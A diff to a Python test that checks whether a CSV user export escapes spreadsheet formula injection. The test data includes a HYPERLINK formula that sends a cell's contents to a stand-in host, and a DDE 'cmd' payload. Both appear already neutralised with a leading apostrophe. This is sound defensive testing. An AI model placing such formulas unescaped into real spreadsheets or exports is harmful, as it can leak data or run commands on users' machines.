@@ -18,7 +18,7 @@ def test_a_formula_in_a_display_name_or_unit_stays_text(tmp_path):
     with open(table, encoding="utf-8-sig", newline="") as fh:
         rows = list(csv.reader(fh))
     assert rows[0] == ["username", "password", "full_name", "unit", "role", "url"]
-    assert rows[1][2] == "'=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")"
+    assert rows[1][2] == '\'=HYPERLINK("http://x.example/?"&A1,"Bấm")'
     assert rows[2][1:4] == ["(giữ mật khẩu cũ)", "Trần Thị Bình", "'+cmd|' /C calc'!A0"]
     assert rows[3][3] == "'@SUM(1+1)" and rows[3][1] == "pqrs-tuvw-xyz2"
     assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
